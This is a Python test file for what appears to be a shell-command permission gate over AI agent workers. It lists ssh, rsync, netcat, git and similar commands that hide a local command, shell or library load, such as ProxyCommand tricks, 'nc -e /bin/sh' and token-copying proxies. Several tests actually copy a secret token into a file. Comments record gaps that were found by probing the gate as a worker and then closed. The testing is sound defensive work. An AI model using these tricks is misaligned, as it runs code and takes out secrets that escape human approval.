"""A remote client's local commands are named in the question, and ``sftp HOST`` is
network access (see :mod:`exomonad.policy.shell_local_commands`).

Found probing as a worker: ``ssh -o ProxyCommand=CMD h`` ran ``CMD`` here (below, for
real, it copies the token out of the state dir) while the person was asked only about
"network access to h"; ``sftp h`` was allowed outright.
"""

from __future__ import annotations

import shutil
import socket
import subprocess
from pathlib import Path

import pytest

from exomonad.policy.decisions import Deny, Escalate
from tests.policy.worker import bash, scratch_worktree

NAMED = [
    ("ssh -o ProxyCommand='nc %h %p' h", "ssh runs a local command: -o ProxyCommand=nc %h %p"),
    ("ssh -oLocalCommand=id -oPermitLocalCommand=yes h", "-o LocalCommand=id"),
    ("ssh -o 'KnownHostsCommand /bin/x' h", "-o KnownHostsCommand /bin/x"),
    ("ssh -F ./cfg h", "ssh runs a local command: -F ./cfg"),
    ("scp -S ./x.sh a h:b", "scp runs a local command: -S ./x.sh"),
    ("sftp -D /usr/lib/openssh/sftp-server", "sftp runs a local command: -D"),
    ("rsync -e 'sh -c id' a h:b", "rsync runs a local command: -e sh -c id"),
    ("rsync --rsh=./x a h:b", "rsync runs a local command: --rsh ./x"),
    ("nc -e /bin/sh h 1", "nc runs a local command: -e /bin/sh"),
    ("ncat --sh-exec id h 1", "ncat runs a local command: --sh-exec id"),
    ("mosh --ssh='sh -c id' h", "mosh runs a local command: --ssh sh -c id"),
]


@pytest.mark.parametrize(("command", "named"), NAMED)
def test_a_local_command_is_named_in_the_question(command: str, named: str) -> None:
    verdict = bash(command)
    assert isinstance(verdict, Escalate), verdict
    assert named in verdict.reason, verdict.reason


@pytest.mark.parametrize(
    "command", ["ssh h ls", "ssh -p 2222 git@h", "rsync -e ssh a h:b", "rsync -e 'ssh -p 22' a h:b",
                "scp a h:b", "ncat h 80"],
)  # fmt: skip
def test_plain_connections_are_asked_as_network_access_only(command: str) -> None:
    verdict = bash(command)
    assert isinstance(verdict, Escalate), verdict
    assert "runs a local command" not in verdict.reason, verdict.reason
    assert "network access to h" in verdict.reason, verdict.reason


def test_the_proxy_command_runs_here_and_is_shown(tmp_path: Path) -> None:
    root, wt = scratch_worktree(tmp_path)
    (root / ".exomonad").mkdir()
    (root / ".exomonad" / "lead.token").write_text("exo_secret")
    proxy = 'sh -c "cat ../../.exomonad/lead.token > leaked"'
    command = f"ssh -o BatchMode=yes -o ProxyCommand='{proxy}' 127.0.0.1 true"
    subprocess.run(["bash", "-c", command], cwd=wt, capture_output=True, timeout=60,
                   check=False)  # fmt: skip
    assert (wt / "leaked").read_text() == "exo_secret"  # ran here, whatever the host did
    verdict = bash(command, root=str(root))
    assert isinstance(verdict, Escalate), verdict
    assert f"ProxyCommand={proxy}" in verdict.reason, verdict.reason


def test_sftp_to_a_host_is_network_access(tmp_path: Path) -> None:
    """The real effect: ``sftp -P PORT 127.0.0.1`` connects (the listener reads its SSH
    banner); then the policy asks, where it allowed before."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(30)
        port = server.getsockname()[1]
        command = f"sftp -o BatchMode=yes -P {port} exo@127.0.0.1"
        client = subprocess.Popen(command.split(), cwd=tmp_path, stdin=subprocess.DEVNULL,
                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
        try:
            peer, _ = server.accept()
            with peer:
                peer.settimeout(30)
                assert peer.recv(64).startswith(b"SSH-2.0")
        finally:
            client.kill()
            client.wait(timeout=30)
    verdict = bash(command)
    assert isinstance(verdict, Escalate), verdict
    assert "network access to 127.0.0.1" in verdict.reason, verdict.reason
    assert "network access to h" in bash("sftp h").reason


def test_a_long_remote_shell_is_read_in_linear_time() -> None:
    """Found trying the gate: the plain-ssh check was a regular expression with nested
    repeats, exponential on ``rsync -e 'ssh -p  -p ... !'`` (22 s for 14 pairs, a server
    thread held for ever at 30). It is read word by word now; the verdict is unchanged."""
    verdict = bash("rsync -e 'ssh" + " -p  -p" * 30 + " !' a h:b")
    assert isinstance(verdict, Escalate), verdict
    assert "rsync runs a local command" in verdict.reason
    assert "runs a local command" not in bash("rsync -e 'ssh" + " -p 22" * 30 + "' a h:b").reason


# Found probing (a second round): ssh reads an -o's keyword quoted, after `=` or
# whitespace, in any case; its other names (slogin, autossh, sshpass's ssh) and netcat's
# (netcat, nc.openbsd, nc.traditional) were allowed outright; ssh loads a library with -I
# or a provider; -E and UserKnownHostsFile write where they are told.
HIDDEN = [
    (
        "ssh -o '\"ProxyCommand\" sh p.sh x' h",
        'ssh runs a local command: -o "ProxyCommand" sh p.sh x',
    ),
    ("ssh -o '\"ProxyCommand\"=cat x' h", "ssh runs a local command"),
    ("ssh '-o\"ProxyCommand\" cat x' h", "ssh runs a local command"),
    ("ssh -o '=ProxyCommand=sh p.sh x' h", "ssh runs a local command: -o =ProxyCommand=sh p.sh x"),
    ("ssh -o'=ProxyCommand=cat x' h", "ssh runs a local command"),
    ("ssh -o 'Proxy\"Command\" cat x' h", "ssh runs a local command"),
    ("scp -o '\"ProxyCommand\" sh p.sh x' a h:b", "scp runs a local command"),
    ("sftp -o '=proxycommand=x' h", "sftp runs a local command"),
    ("ssh -o 'FutureCommand x' h", "ssh runs a local command: -o FutureCommand x"),
    ("ssh -o XAuthLocation=./evil -X h", "ssh runs a local command: -o XAuthLocation=./evil"),
    ('ssh -o "$OPT" h', "ssh may run a local command (set at run time)"),
    ("ssh -J 'h2 -oProxyCommand=x' h", "ssh runs a local command: -J h2 -oProxyCommand=x"),
    ("ssh -I ./x.so h", "ssh loads a local library: -I ./x.so"),
    ("ssh -oPKCS11Provider=./x.so h", "ssh loads a local library: -o PKCS11Provider=./x.so"),
    ("ssh -o SecurityKeyProvider=./x.so h", "ssh loads a local library"),
    (
        "slogin -o ProxyCommand='sh p.sh x' h",
        "slogin runs a local command: -o ProxyCommand=sh p.sh x",
    ),
    ("autossh -M 0 -o ProxyCommand=x h", "autossh runs a local command: -o ProxyCommand=x"),
    ("sshpass -p pw ssh -o ProxyCommand=x h", "ssh runs a local command: -o ProxyCommand=x"),
    ("nc.traditional -e /bin/sh 127.0.0.1 9", "nc.traditional runs a local command: -e /bin/sh"),
    ("netcat -c 'cat x' h 1", "netcat runs a local command: -c cat x"),
    ("dbclient -J 'sh -c x' h", "dbclient runs a local command: -J sh -c x"),
    ("git ls-remote -u 'sh -c x' .", "git ls-remote -u sh -c x ."),
    ("git ls-remote -qu 'sh -c x' .", "git ls-remote -qu sh -c x ."),
    ("RSYNC_CONNECT_PROG='sh -c x' rsync a rsync://h/b", "sets RSYNC_CONNECT_PROG=sh -c x"),
    ("AUTOSSH_PATH=./evil autossh -M 0 h", "sets AUTOSSH_PATH=./evil"),
]


@pytest.mark.parametrize(("command", "named"), HIDDEN)
def test_a_hidden_local_command_is_named(command: str, named: str) -> None:
    verdict = bash(command)
    assert isinstance(verdict, Escalate), verdict
    assert named in verdict.reason, verdict.reason


@pytest.mark.parametrize(
    ("command", "host"),
    [("slogin user@example.com", "example.com"), ("autossh -M 0 h", "h"),
     ("sshpass -p pw ssh h", "h"), ("netcat 127.0.0.1 9", "127.0.0.1"),
     ("nc.openbsd -q1 127.0.0.1 9", "127.0.0.1"),
     ("ssh -o HostName=evil.example h", "evil.example"), ("ssh -J jump.example h", "jump.example"),
     ("ssh -oProxyJump=u@jump.example:22 h", "jump.example")],
)  # fmt: skip
def test_other_names_and_other_hosts_are_network_access(command: str, host: str) -> None:
    verdict = bash(command)
    assert isinstance(verdict, Escalate), verdict
    assert f"network access to {host}" in verdict.reason, verdict.reason
    assert "runs a local command" not in verdict.reason, verdict.reason


@pytest.mark.parametrize(
    ("command", "verdict_kind", "said"),
    [("ssh -E ../../Makefile h", Escalate, "write /p/Makefile"),
     ("ssh -o UserKnownHostsFile=../../Makefile h", Escalate, "write /p/Makefile"),
     ("ssh -o 'UserKnownHostsFile k ../../Makefile' h", Escalate, "write /p/Makefile"),
     ("ssh -o UserKnownHostsFile=../../.exomonad/known h", Deny, "/p/.exomonad/known"),
     ("ssh -S ../../.exomonad/server.sock h", Deny, "/p/.exomonad/server.sock"),
     ("sshpass -f ../../.exomonad/lead.token ssh h", Deny, "/p/.exomonad/lead.token")],
)  # fmt: skip
def test_what_ssh_writes_is_judged_as_a_write(command: str, verdict_kind: type, said: str) -> None:
    verdict = bash(command)
    assert isinstance(verdict, verdict_kind), verdict
    assert said in verdict.reason, verdict.reason


@pytest.mark.parametrize(
    "command",
    ["ssh -o PermitLocalCommand=no h", "ssh -o Port=22 -o 'User git' h", "ssh -E log.txt h",
     "ssh -o UserKnownHostsFile=/dev/null -o StrictHostKeyChecking=no h"],
)  # fmt: skip
def test_plain_ssh_options_name_no_local_command(command: str) -> None:
    verdict = bash(command)
    assert isinstance(verdict, Escalate), verdict
    assert "runs a local command" not in verdict.reason, verdict.reason
    assert "network access to h" in verdict.reason, verdict.reason


@pytest.mark.parametrize(
    "command",
    ["slogin -o BatchMode=yes -o ProxyCommand='{proxy}' 127.0.0.1 true",
     "ssh -o BatchMode=yes -o '\"ProxyCommand\" {proxy}' 127.0.0.1 true",
     "ssh -o BatchMode=yes -o '=ProxyCommand={proxy}' 127.0.0.1 true",
     "scp -o BatchMode=yes -o '\"ProxyCommand\" {proxy}' p.sh 127.0.0.1:x"],
)  # fmt: skip
def test_a_proxy_command_spelled_otherwise_runs_here_and_is_shown(
    tmp_path: Path, command: str
) -> None:
    root, wt = scratch_worktree(tmp_path)
    (root / ".exomonad").mkdir()
    (root / ".exomonad" / "lead.token").write_text("exo_secret")
    (wt / "p.sh").write_text('cat ../../.exomonad/lead.token > "$1"\n')
    command = command.format(proxy="sh p.sh leaked")
    subprocess.run(["bash", "-c", command], cwd=wt, capture_output=True, timeout=60,
                   check=False)  # fmt: skip
    assert (wt / "leaked").read_text() == "exo_secret"  # ran here, whatever the host did
    verdict = bash(command, root=str(root))
    assert isinstance(verdict, Escalate), verdict
    assert "runs a local command" in verdict.reason, verdict.reason
    assert "sh p.sh leaked" in verdict.reason, verdict.reason


@pytest.mark.parametrize("name", ["netcat", "nc.openbsd"])
def test_netcat_by_its_other_names_sends_a_file_and_is_asked(tmp_path: Path, name: str) -> None:
    """The real effect: ``NAME -q1 127.0.0.1 PORT < data.txt`` sends the file to a loopback
    listener; the policy asks about the connection, where it allowed it before. (The
    Makefile installs netcat-openbsd, which gives both names; ``nc.traditional``, not
    installed, is judged by its verdict above.)"""
    assert shutil.which(name) is not None, f"no {name}: run make setup (netcat-openbsd)"
    (tmp_path / "data.txt").write_text("worktree-secret-data\n")
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(30)
        port = server.getsockname()[1]
        command = f"{name} -q1 127.0.0.1 {port} < data.txt"
        client = subprocess.Popen(["bash", "-c", command], cwd=tmp_path,
                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
        try:
            peer, _ = server.accept()
            with peer:
                peer.settimeout(30)
                assert peer.recv(64) == b"worktree-secret-data\n"
        finally:
            client.kill()
            client.wait(timeout=30)
    verdict = bash(command)
    assert isinstance(verdict, Escalate), verdict
    assert "network access to 127.0.0.1" in verdict.reason, verdict.reason


def test_ls_remote_runs_its_upload_pack_here(tmp_path: Path) -> None:
    """``git ls-remote --upload-pack=CMD .`` runs CMD here (this git has no ``-u`` for
    ls-remote; others do, and the policy reads both as clone's)."""
    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
    command = "git ls-remote --upload-pack='sh -c \"echo ran > marker; exit 1\"' ."
    subprocess.run(["bash", "-c", command], cwd=tmp_path, capture_output=True, timeout=60,
                   check=False)  # fmt: skip
    assert (tmp_path / "marker").read_text() == "ran\n"
    for spelled in (command, command.replace("--upload-pack=", "-u ")):
        verdict = bash(spelled)
        assert isinstance(verdict, Escalate), verdict
        assert "ls-remote" in verdict.reason, verdict.reason
